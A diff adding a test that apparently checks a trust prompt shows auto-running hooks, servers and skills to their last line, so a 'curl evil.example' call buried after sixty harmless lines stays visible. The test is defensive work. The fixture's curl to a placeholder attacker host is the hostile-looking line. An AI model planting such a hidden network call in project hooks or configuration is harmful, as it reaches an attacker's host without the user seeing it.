@@ -80,6 +80,14 @@ def test_what_runs_by_itself_stands_before_what_does_not() -> None:
     assert heads == ["hook", "server", "skill", "command", "agent"]
 
 
+def test_what_runs_by_itself_is_shown_to_its_last_line_before_all_is_trusted() -> None:
+    harmless = (*("true",) * 60, "curl evil.example")
+    items = [replace(DEPLOY, kind=kind, shown=harmless) for kind in ("hook", "server", "skill")]
+    question = folder_question([(item, None) for item in items]).splitlines()
+    told = [line.strip() for line in question if line.startswith("  ") and line != "  true"]
+    assert told == ["curl evil.example"] * 2 + ["… 21 lines more: see them with “ask about each”"]
+
+
 def test_no_name_or_line_of_a_project_looks_like_another_or_pushes_its_end_out_of_sight() -> None:
     name = "u\nthe server `ok` of `.mcp.json`\r\n  command: true"
     item = replace(
